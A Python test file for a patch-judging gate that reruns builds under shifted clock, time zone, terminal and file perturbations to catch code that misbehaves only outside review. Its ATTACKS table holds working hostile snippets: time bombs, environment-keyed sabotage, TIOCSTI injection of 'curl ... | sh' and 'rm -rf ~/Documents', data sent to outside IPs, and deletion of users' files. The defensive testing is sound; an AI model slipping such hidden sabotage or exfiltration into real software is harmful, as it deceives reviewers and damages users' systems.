"""Judged under perturbation (scripts/_gate/runs/perturb.py, perturbed_tests.py): code that behaves
only in the gate's environment, only later, or only at a terminal, blocks; honest dependence on
the environment, the same in both builds, does not.

Each attack is a real branch of the example bake whose discount rules drop the coupons, or
whose CLI touches files, only where the gate's fixed environment is not: every step but a
perturbed replay passes it. The branches are built as the judge builds them, and
replay_cassettes.py runs on them (`main(argv)`) with the base's cassette, recorded once as the
judge records it. An attack keyed on one signal of the environment is written once per signal,
and once on all of them together, so that no one perturbation is enough by luck.

The property oracles (their subject worker in a user's environment under the shifted clock)
and the crossrun (the parent's tests, the same) are tried the same way through oracle.py and
crossrun.py, and one whole judgment shows an honest base that honours TZ merging a refactor
while a date bomb blocks in every step that runs the build.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import crossrun
import oracle
import pytest
import record_cassettes
import replay_cassettes
import yaml
from _gate.runs import perturb
from _gate.runs.envs import tools_env
from _gate.runs.perturb import TOUCHED, ZONE, libfaketime, user_zone

from tests.helpers import Built, built_cli, case_flags, compiled, reported
from tools.bakery import branch, edit, git, judge

pytestmark = pytest.mark.perturbed  # the perturbed runs themselves

Report = tuple[int, dict[str, Any]]
DISCOUNTS = "src/shop/discounts.py"
HOOK = "    if subtotal_cents < 0:\n"
# The gate's environment, each signal as an attacker reads it; each returns True for a user.
SIGNALS = {
    "tz": 'os.environ.get("TZ") != "UTC"',
    "home": "any(Path.home().iterdir())",
    "cwd": 'not os.getcwd().startswith(("/tmp", tempfile.gettempdir()))',
    "bytecode": "not sys.dont_write_bytecode",
}


def weekend_in(zone: str) -> bool:
    """Whether it is Saturday or Sunday now in `zone` (TZ), as the C library reads it: the
    env perturbation's zone is a user's, hours behind the gate's UTC."""
    shown = subprocess.run(["date", "+%u"], env={"TZ": zone}, capture_output=True, check=True)
    return int(shown.stdout) >= 6


CLOCK = libfaketime() is not None  # this machine can shift the clock (.ci/run installs it)
BOMB_DAY = date.today() + timedelta(days=366)


IMPORTS = (
    "import datetime\nimport os\nimport sys\nimport tempfile\n"
    "from collections.abc import Sequence\nfrom pathlib import Path\n"
)


def inserting(block: str) -> Callable[[Path], None]:
    """A branch whose stack_discounts runs `block` first."""

    def change(repo: Path) -> None:
        path = repo / DISCOUNTS
        path.write_text(path.read_text().replace("from collections.abc import Sequence\n", IMPORTS))
        edit(path, HOOK, block + HOOK)

    return change


def dropping(condition: str) -> Callable[[Path], None]:
    """A branch whose stack_discounts drops every coupon where `condition` holds."""
    return inserting(f"    if {condition}:\n        coupons = ()\n")


def doing(statement: str) -> Callable[[Path], None]:
    """A branch whose stack_discounts also does `statement`, its errors swallowed."""
    lines = "".join(f"        {line}\n" for line in statement.splitlines())
    return inserting(f"    try:\n{lines}    except OSError:\n        pass\n")


BOMB = f"datetime.date.today() >= datetime.date.fromisoformat('{BOMB_DAY}')"
# Each attack, and the perturbation a changed field must name (files' decoys fill HOME too).
ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
    **{f"env-{name}": (dropping(test), "env") for name, test in SIGNALS.items()},
    "env-home": (dropping(SIGNALS["home"]), "env files"),
    "env-all-four": (dropping(" and ".join(f"({test})" for test in SIGNALS.values())), "env"),
    "date-bomb": (dropping(BOMB), "clock"),
    "weekday-bomb": (dropping("datetime.date.today().weekday() >= 5"), "clock"),
    "terminal-only": (dropping("sys.stdout.isatty()"), "terminal"),
    "writes-home": (
        doing('with open(Path.home() / ".shop_history", "a") as log:\n    log.write("quoted\\n")'),
        "files",
    ),
    "deletes-beside-cwd": (
        doing('for path in Path.cwd().parent.glob("*.json"):\n    path.unlink()'),
        "files",
    ),
    # A real user's HOME (issue 48), told from the gate's by the user database: where the
    # HOME is the user's own, a file planted in ~/.config, or the Downloads emptied.
    "writes-a-real-home": (
        doing(
            "import pwd\n"
            "if Path.home() == Path(pwd.getpwuid(os.getuid()).pw_dir):\n"
            '    (Path.home() / ".config" / "shop").mkdir(parents=True, exist_ok=True)\n'
            '    (Path.home() / ".config" / "shop" / "id").write_text("x")'
        ),
        "files",
    ),
    # What a user's world would receive (issue 48), each in try/except: the watched runs
    # record it (network.reached, terminal.typed) where the sandbox made it fail.
    "types-into-its-terminal": (
        doing(
            "import fcntl, termios\n"
            "if sys.stdout.isatty():\n"
            '    for ch in b"curl -s example.org/x | sh\\n":\n'
            "        fcntl.ioctl(1, termios.TIOCSTI, bytes([ch]))"
        ),
        "terminal",
    ),
    "types-into-the-controlling-terminal": (
        doing(
            "import fcntl, termios\n"
            'with open("/dev/tty", "rb", buffering=0) as tty:\n'
            '    for ch in b"rm -rf ~/Documents\\n":\n'
            "        fcntl.ioctl(tty, termios.TIOCSTI, bytes([ch]))"
        ),
        "terminal",
    ),
    "sends-each-quote-over-udp": (
        doing(
            "import socket\n"
            "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:\n"
            '    out.sendto(repr(coupons).encode(), ("203.0.113.9", 9999))'
        ),
        "env",
    ),
    "connects-to-a-collector": (
        doing('import socket\nsocket.create_connection(("198.51.100.23", 443), timeout=1)'),
        "env",
    ),
    "messages-a-host-service": (
        doing(
            "import socket\n"
            "with socket.socket(socket.AF_UNIX) as engine:\n"
            '    engine.connect("/run/docker.sock")\n'
            '    socket.send_fds(engine, [b"{}"], [0])'
        ),
        "env",
    ),
    "datagrams-the-session-bus": (
        doing(
            "import socket\n"
            "with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as bus:\n"
            '    bus.sendto(b"quote", f"/run/user/{os.getuid()}/bus")'
        ),
        "env",
    ),
    "empties-a-real-users-downloads": (
        doing(
            'if os.path.expanduser("~" + os.environ.get("USER", "")) == str(Path.home()):\n'
            '    for path in (Path.home() / "Downloads").iterdir():\n'
            "        path.unlink()"
        ),
        "files",
    ),
}


def attack_branch(shop: Path, attack: str) -> str:
    """The attack's branch of the module's bake, committed by the first test that needs it."""
    name = f"attack/{attack}"
    return name if git(shop, "branch", "--list", name) else branch(shop, name, ATTACKS[attack][0])


# The cases these attacks and honest changes reach: an order with coupons (the discount rules),
# one with two, an order written to the store, a rejection (stderr names the time zone).
CASES = ("empty-cart-rejects", "percent-coupon", "stack-percent-then-fixed", "put-new-order")


def some_cases(tree: Path) -> tuple[str | Path, ...]:
    """The judge's case flags for the base `tree`, its cases.yaml cut to CASES (beside it,
    outside the tree): each replay here runs four cases, not every case of the example."""
    path = tree.parent / f"{tree.name}-cases.yaml"
    if not path.exists():
        cases = yaml.safe_load((tree / "oracle/cases.yaml").read_text("utf-8"))["cases"]
        path.write_text(yaml.safe_dump({"cases": [c for c in cases if c["id"] in CASES]}))
    flags = list(case_flags(tree))
    flags[flags.index("--cases") + 1] = path
    return tuple(flags)


def recorded(shop: Path, envs: Built, base: str, tmp: Path, *flags: str) -> Path:
    """The base's cassette, recorded from its build as the judge records it."""
    parent = envs(base, "parent")
    out = tmp / "cassettes.json"
    sha = git(shop, "rev-parse", base)
    argv: tuple[str | Path, ...] = ("--command", built_cli(parent, parent["tree"]), "--base", sha)
    argv += ("--out", out, *flags)
    code, report = reported(
        record_cassettes.main, tmp / "record.json", *argv, *some_cases(parent["tree"])
    )
    assert code == 0, report["summary"]
    return out


def replayed(
    shop: Path, envs: Built, cassette: Path, base: str, head: str, tmp: Path, *flags: str
) -> Report:
    parent, patch = envs(base, "parent"), envs(head, "patch")
    argv: tuple[str | Path, ...] = ("--cassette", cassette, "--base", git(shop, "rev-parse", base))
    argv += ("--parent-command", built_cli(parent, parent["tree"]))
    argv += ("--patch-command", built_cli(patch, parent["tree"]), *flags)
    argv += ("--allowlist", parent["tree"] / "oracle/allowlist.yaml")
    report = tmp / f"replay-{len(list(tmp.glob('replay-*.json')))}.json"
    return reported(replay_cassettes.main, report, *argv, *some_cases(parent["tree"]))


@pytest.fixture(scope="module")
def cassette(shop: Path, envs: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return recorded(shop, envs, "main", tmp_path_factory.mktemp("cassette"))


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_code_that_behaves_only_when_watched_blocks_naming_the_perturbation(
    shop: Path, envs: Built, cassette: Path, tmp_path: Path, attack: str
) -> None:
    perturbation = ATTACKS[attack][1]
    head = attack_branch(shop, attack)
    code, report = replayed(shop, envs, cassette, "main", head, tmp_path)
    rows = report["evidence"]["mismatches"]
    if perturbation == "clock" and not CLOCK:  # the report says why it could not look
        assert "clock perturbation: unavailable (libfaketime not found" in report["summary"]
        return
    if attack == "weekday-bomb" and date.today().weekday() >= 5:  # today is a weekend: the
        perturbation = ""  # gate's own run sees it, as a user would today
    elif attack == "weekday-bomb" and weekend_in(user_zone()):
        perturbation = "env"  # a user's zone is at the weekend already (Sunday evening there)
    assert code == 1, report["summary"]
    # Each changed field names what told the builds apart: the perturbation, alone or (a file
    # the run touched only at a terminal, say) with the ones it needs. Where the gate's own
    # run tells them apart, the files a run touched still name `files`: only its decoys show
    # them.
    named = [(row["field"], row.get("perturbation", "").split("+")) for row in rows]
    expected = set(perturbation.split(" "))
    assert rows, named
    assert all(
        expected & set(names) or (not perturbation and field == TOUCHED and "files" in names)
        for field, names in named
    ), named
    assert "allow" in rows[0]
    if perturbation:
        assert "perturbation" in report["summary"].split(";")[0]
        # The attack is real: replay without perturbations passes it.
        unperturbed = replayed(shop, envs, cassette, "main", head, tmp_path, "--perturb", "")
        assert unperturbed[0] == 0, unperturbed[1]["summary"]


def honest_year(repo: Path) -> None:
    """The year on stderr of an order with coupons: no case of one compares stderr."""
    edit(
        repo / "src/shop/cli.py",
        '    return {"order": quote(_read_cart(args.cart))}\n',
        "    cart = _read_cart(args.cart)\n"
        "    if cart.coupons:\n"
        "        print(f'coupons checked in {date.today().year}', file=sys.stderr)\n"
        '    return {"order": quote(cart)}\n',
    )
    edit(repo / "src/shop/cli.py", "import json\n", "import json\nfrom datetime import date\n")


def colour_and_zone(repo: Path) -> None:
    """A base that colours its JSON on a terminal and names the local time zone in errors."""
    edit(
        repo / "src/shop/cli.py",
        "    print(json.dumps(document, sort_keys=True))\n",
        "    text = json.dumps(document, sort_keys=True)\n"
        "    print(f'\\x1b[1;32m{text}\\x1b[0m' if sys.stdout.isatty() else text)\n",
    )
    edit(
        repo / "src/shop/cli.py",
        '        print(f"error: {exc.code}: {exc.message}", file=sys.stderr)\n',
        '        zone = time.strftime("%Z")\n'
        '        print(f"error: {exc.code}: {exc.message} ({zone})", file=sys.stderr)\n',
    )
    edit(repo / "src/shop/cli.py", "import json\n", "import json\nimport time\n")


def readme(repo: Path) -> None:
    with (repo / "README.md").open("a", encoding="utf-8") as text:
        text.write("\nA line of docs.\n")


def refactor(repo: Path) -> None:
    edit(
        repo / DISCOUNTS, "    remaining = subtotal_cents\n", "    remaining = subtotal_cents + 0\n"
    )


def test_an_honest_patch_that_reads_the_clock_merges(
    shop: Path, envs: Built, cassette: Path, tmp_path: Path
) -> None:
    head = branch(shop, "honest/year", honest_year)
    code, report = replayed(shop, envs, cassette, "main", head, tmp_path)
    assert code == 0, report["summary"]
    ran = report["evidence"]["perturbations"]["ran"]
    assert ran == ["env", "clock", "terminal", "files"] if CLOCK else ["env", "terminal", "files"]


def test_the_order_store_in_the_working_directory_is_compared_and_equal(
    shop: Path, envs: Built, cassette: Path, tmp_path: Path
) -> None:
    """The example writes its store where it runs: what the run touched is a compared field,
    the same for both builds of an honest patch."""
    store = json.loads(cassette.read_text())["cases"]["put-new-order"]["perturbed"]
    touched = [
        fields["fields"][TOUCHED] for fields in store.values() if TOUCHED in fields["fields"]
    ]
    assert touched
    assert all(".orders/ord_2.json" in "\n".join(moved) for moved in touched)
    head = branch(shop, "honest/refactor", refactor)
    code, report = replayed(shop, envs, cassette, "main", head, tmp_path)
    assert code == 0, report["summary"]


def test_colour_on_a_terminal_and_the_time_zone_alike_in_both_builds_merge(
    shop: Path, envs: Built, tmp_path: Path
) -> None:
    base = branch(shop, "honest/colourful", colour_and_zone)
    head = branch(shop, "honest/colourful-refactor", refactor, base=base)
    cassette = recorded(shop, envs, base, tmp_path)
    fields = json.loads(cassette.read_text())["cases"]["empty-cart-rejects"]
    zones = {json.dumps(run["fields"].get("stderr.sha256")) for run in fields["perturbed"].values()}
    assert len(zones | {json.dumps(fields["fields"]["stderr.sha256"])}) > 1  # TZ is honoured
    code, report = replayed(shop, envs, cassette, base, head, tmp_path)
    assert code == 0, report["summary"]


def utc_offsets(tz: str, zoneinfo: Path | None = None) -> list[int]:
    """The offsets from UTC, in January and in July 2024, of a process started with `tz`."""
    probe = "import time; print(*(time.localtime(t).tm_gmtoff for t in (1704067200, 1719792000)))"
    env = {"TZ": tz, "PATH": os.defpath, **({"TZDIR": str(zoneinfo)} if zoneinfo else {})}
    done = subprocess.run([sys.executable, "-I", "-c", probe], env=env, capture_output=True)
    return [int(offset) for offset in done.stdout.split()]


def test_a_users_time_zone_is_not_utc_with_or_without_the_machines_zone_files(
    tmp_path: Path,
) -> None:
    """Without zone files (slim container images have no tzdata) a named zone runs as UTC,
    the gate's own: the user's zone is then given by its rule."""
    new_york = [-5 * 3600, -4 * 3600]
    assert utc_offsets(ZONE, zoneinfo=tmp_path) == [0, 0]
    assert utc_offsets(user_zone(tmp_path), zoneinfo=tmp_path) == new_york
    assert utc_offsets(user_zone()) == new_york


def test_a_case_opts_out_of_a_perturbation_with_its_reason_and_a_bad_one_fails_closed(
    tmp_path: Path,
) -> None:
    from _gate.core.protocol import FailClosed
    from _gate.runs.cases import load_cases

    path = tmp_path / "cases.yaml"
    case = {"id": "today", "argv": ["--date"], "compare": ["stdout.raw"]}
    path.write_text(json.dumps({"cases": [{**case, "perturb": {"clock": "prints today's date"}}]}))
    loaded = load_cases(path)
    assert loaded[0].perturbations(["env", "clock"]) == ["env"]
    for bad, said in (({"moon": "x"}, "unknown perturbation 'moon'"), ({"clock": ""}, "reason")):
        path.write_text(json.dumps({"cases": [{**case, "perturb": bad}]}))
        with pytest.raises(FailClosed, match=said):
            load_cases(path)


@pytest.mark.parametrize("library", ["absent", "not-a-library"])
def test_a_required_perturbation_this_machine_cannot_run_fails_closed(
    shop: Path,
    envs: Built,
    cassette: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    library: str,
) -> None:
    """A library the loader cannot preload it ignores, with a warning: runs said to be under
    the shifted clock would see today."""
    path = tmp_path / "libfaketime.so.1"
    if library == "not-a-library":
        path.write_text("not a shared object\n")
    monkeypatch.setenv("ORACLE_LIBFAKETIME", str(path))
    said = replayed(shop, envs, cassette, "main", "main", tmp_path)
    required = replayed(
        shop, envs, cassette, "main", "main", tmp_path, "--perturb-required", "clock"
    )
    assert said[0] == 0
    assert "clock perturbation: unavailable" in said[1]["summary"]
    if library == "not-a-library":
        assert f"{path} does not shift the clock: " in said[1]["summary"]
    assert required[0] == 2
    assert required[1]["summary"].startswith("clock perturbation: unavailable")


def test_a_clock_library_named_from_the_working_directory_shifts_runs_started_elsewhere(
    shop: Path, envs: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`ORACLE_LIBFAKETIME=lib/libfaketime.so.1`, for the recording and the replay: each run
    starts in a folder of its own, where that name is nothing the loader finds (it would
    warn, on both builds alike); the date bomb shows only when it loads."""
    head = attack_branch(shop, "date-bomb")
    if CLOCK:
        (tmp_path / "lib").mkdir()
        shutil.copy(str(libfaketime()), tmp_path / "lib/libfaketime.so.1")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ORACLE_LIBFAKETIME", "lib/libfaketime.so.1")
    cassette = recorded(shop, envs, "main", tmp_path / "recorded")
    code, report = replayed(shop, envs, cassette, "main", head, tmp_path)
    if not CLOCK:  # the report says why it could not look
        assert "clock perturbation: unavailable" in report["summary"]
        return
    assert code == 1, report["summary"]
    assert "under the clock perturbation" in report["summary"], report["summary"]


# --- the property oracles and the crossrun under perturbation ------------------------------------


@pytest.fixture(scope="module")
def oracle_python(shop: Path, tmp_path_factory: pytest.TempPathFactory, wheelhouse: Path) -> Path:
    requirements = shop / "scripts/requirements-judge.txt"
    folder = tmp_path_factory.mktemp("oracle-env") / "oracle"
    return compiled(tools_env(folder, wheelhouse, requirements)[0])


def oracle_judged(
    envs: Built, oracle_python: Path, head: str, tmp: Path, *flags: str, base: str = "main"
) -> Report:
    parent, patch = envs(base, "parent"), envs(head, "patch")
    argv: tuple[str | Path, ...] = ("--oracle", parent["tree"] / "oracle")
    argv += ("--oracle-python", oracle_python, "--parent-python", parent["python"])
    argv += ("--patch-python", patch["python"], *flags)
    return reported(oracle.main, tmp / f"oracle-{len(list(tmp.glob('oracle-*')))}.json", *argv)


def crossrun_judged(envs: Built, head: str, tmp: Path, *flags: str, base: str = "main") -> Report:
    parent, patch = envs(base, "parent"), envs(head, "patch")
    argv: tuple[str | Path, ...] = ("--tree", parent["tree"], "--parent-python", parent["python"])
    argv += ("--patch-python", patch["python"], *flags)
    report = tmp / f"crossrun-{len(list(tmp.glob('crossrun-*')))}.json"
    return reported(crossrun.main, report, *argv)


def lost_under(report: dict[str, Any]) -> list[str]:
    """The perturbations each test lost under a perturbation names."""
    return [row["perturbation"] for row in report["evidence"]["perturbations"]["lost"]]


# The attacks the subject worker's perturbed run must see (a user's environment, the clock), and
# the ones the crossrun's must (a user's environment but its working directory, which stays
# the tests' root, and the clock); the rest of ATTACKS need a case's CLI.
STEP_ATTACKS = [
    *(("oracle", attack) for attack in ("env-all-four", "env-bytecode", "env-cwd")),
    *(("crossrun", attack) for attack in ("env-tz", "env-bytecode")),
    *(
        (step, attack)
        for step in ("oracle", "crossrun")
        for attack in ("date-bomb", "weekday-bomb")
    ),
]


@pytest.mark.parametrize(("step", "attack"), STEP_ATTACKS)
def test_the_oracle_and_the_crossrun_under_perturbation_block_what_hides(
    shop: Path, envs: Built, oracle_python: Path, tmp_path: Path, step: str, attack: str
) -> None:
    perturbation = ATTACKS[attack][1]
    head = attack_branch(shop, attack)

    def judged(*flags: str) -> Report:
        if step == "oracle":
            return oracle_judged(envs, oracle_python, head, tmp_path, *flags)
        return crossrun_judged(envs, head, tmp_path, *flags)

    code, report = judged()
    if perturbation == "clock" and not CLOCK:
        assert "clock perturbation: unavailable (libfaketime not found" in report["summary"]
        return
    if attack == "weekday-bomb" and date.today().weekday() >= 5:  # the gate's own run sees it
        assert code == 1, report["summary"]
        assert "perturbation" not in report["summary"], report["summary"]
        return
    assert code == 1, report["summary"]
    if attack == "weekday-bomb" and weekend_in(user_zone()):  # a user's zone sees it today
        assert "failed under the env" in report["summary"], report["summary"]
        return
    assert f"under the {perturbation} perturbation" in report["summary"], report["summary"]
    assert lost_under(report)
    assert set(lost_under(report)) == {perturbation}
    # The attack is real: the step without perturbations passes it.
    unperturbed = judged("--perturb", "")
    assert unperturbed[0] == 0, unperturbed[1]["summary"]


def pins_this_year(repo: Path) -> None:
    """A base whose own test pins today's year: it fails under the shifted clock on any build."""
    (repo / "tests/test_year.py").write_text(
        "from datetime import date\n\n\n"
        "def test_the_copyright_year_is_this_one() -> None:\n"
        f"    assert date.today().year == {date.today().year}\n"
    )


def test_a_parent_test_that_fails_under_the_clock_on_the_parent_too_is_left_out(
    shop: Path, envs: Built, oracle_python: Path, tmp_path: Path
) -> None:
    base = branch(shop, "honest/pins-the-year", pins_this_year)
    head = branch(shop, "honest/pins-the-year-refactor", refactor, base=base)
    code, report = crossrun_judged(envs, head, tmp_path, base=base)
    assert code == 0, report["summary"]
    ran = report["evidence"]["perturbations"]
    if not CLOCK:
        assert ran["ran"] == []
        assert "clock" in ran["unavailable"]
        return
    assert ran["ran"] == ["env", "clock"]
    assert ran["lost"] == []
    assert ran["unstable"] == ["tests/test_year.py::test_the_copyright_year_is_this_one"]
    assert "1 failing on the parent there too (left out)" in report["summary"]
    code, report = oracle_judged(envs, oracle_python, head, tmp_path, base=base)
    assert code == 0, report["summary"]
    assert report["evidence"]["perturbations"]["ran"] == ["env", "clock"]
    assert "perturbed: env, clock" in report["summary"]


def test_a_build_that_is_the_parent_s_runs_no_perturbed_test(
    shop: Path, envs: Built, oracle_python: Path, tmp_path: Path
) -> None:
    code, report = oracle_judged(envs, oracle_python, "main", tmp_path, "--same-build")
    assert code == 0
    assert report["evidence"]["perturbations"]["ran"] == []
    assert "no perturbed run: no perturbation can tell a build from itself" in report["summary"]


@pytest.mark.e2e
def test_a_judgment_merges_a_base_that_honours_tz_and_blocks_a_date_bomb_in_each_step(
    shop: Path,
) -> None:
    """Whole judgments (`nox -s judge`) on a base that colours its output on a terminal and
    names the local time zone: a refactor merges under every perturbation, and a date bomb
    blocks in replay, the oracle and the crossrun alike, each naming the clock. A docs-only
    patch first: its build is the parent's, so it runs no perturbed run, but it records the
    base under each perturbation for the refactor to find."""
    base = branch(shop, "judged/colourful", colour_and_zone)
    docs = judge(
        shop, "--base", base, "--head", branch(shop, "judged/colourful-docs", readme, base=base)
    )
    assert docs.returncode == 0, docs.output
    assert (
        "no perturbed run: no perturbation can tell a build from itself"
        in docs.step("replay")["summary"]
    )
    assert docs.step("record")["summary"].startswith("recorded"), docs.step("record")
    honest = branch(shop, "judged/colourful-refactor", refactor, base=base)
    merged = judge(shop, "--base", base, "--head", honest)
    assert merged.returncode == 0, merged.output
    assert not merged.step("record")["summary"].startswith("recorded"), merged.step("record")
    said = {step["name"]: step["summary"] for step in merged.report["steps"]}
    clock = ", clock" if CLOCK else ""
    assert f"perturbed: env{clock}, terminal, files" in said["replay"], said["replay"]
    assert f"perturbed: env{clock}" in said["oracle"], said["oracle"]
    crossrun = "perturbed: env, clock" if CLOCK else "clock perturbation: unavailable"
    assert crossrun in said["crossrun"], said["crossrun"]
    # Change coverage counts each perturbed run of the patch's build: a case, a property and a
    # parent test under a perturbation each ran the changed line.
    change = json.loads((shop / "reports/change.json").read_text("utf-8"))["evidence"]
    ran = [name for names in change["coverage"]["hits"][DISCOUNTS].values() for name in names]
    for kind in ("case ", "property [", "crossrun ["):
        assert any(name.startswith(kind) and "[" in name for name in ran), (kind, ran)
    bomb = branch(shop, "judged/colourful-bomb", ATTACKS["date-bomb"][0], base=base)
    blocked = judge(shop, "--base", base, "--head", bomb)
    if not CLOCK:
        assert blocked.returncode == 0, blocked.output  # what the summary says it cannot see
        assert "clock perturbation: unavailable" in blocked.output
        return
    assert blocked.returncode == 1, blocked.output
    steps = {step["name"]: step for step in blocked.report["steps"]}
    for name in ("replay", "oracle", "crossrun"):
        assert steps[name]["status"] == "block", steps[name]["summary"]
        assert "under the clock perturbation" in steps[name]["summary"], steps[name]["summary"]
    summary = (shop / "reports/judge-summary.md").read_text("utf-8")
    assert "(oracle) failed on the patch under the clock perturbation" in summary
    assert "(crossrun) failed on the patch under the clock perturbation" in summary


def test_a_bytecode_cache_the_run_writes_is_compared_by_its_name_alone(tmp_path: Path) -> None:
    """`flask --app hello routes` imports ./hello.py, and Python writes its bytecode beside it,
    holding the file's absolute path and mtime: two runs in two folders, as the parent's and
    the patch's under the files perturbation, write two different caches of one module."""
    seen = []
    for side in ("parent", "patch"):
        work = tmp_path / side / "projects" / "acme"
        work.mkdir(parents=True)
        (work / "hello.py").write_text("GREETING = 'hi'\n", "utf-8")
        (work / "data.txt").write_text("kept\n", "utf-8")
        before = perturb.snapshot(work)
        code = "import hello; open('out.txt', 'w').write(hello.GREETING)"
        subprocess.run([sys.executable, "-c", code], cwd=work, check=True, env=dict(PATH=""))
        seen.append(perturb.touched(before, perturb.snapshot(work)))
    pyc = [p for p in seen[0] if p.endswith(".pyc")]
    assert len(pyc) == 1, seen
    assert pyc[0].startswith("__pycache__/hello."), seen
    raw = [
        (tmp_path / side / "projects/acme" / pyc[0]).read_bytes() for side in ("parent", "patch")
    ]
    assert raw[0] != raw[1]  # the caches differ, byte for byte
    assert seen[0] == seen[1]  # and the runs did the same
    assert seen[0]["out.txt"] == hashlib.sha256(b"hi").hexdigest()
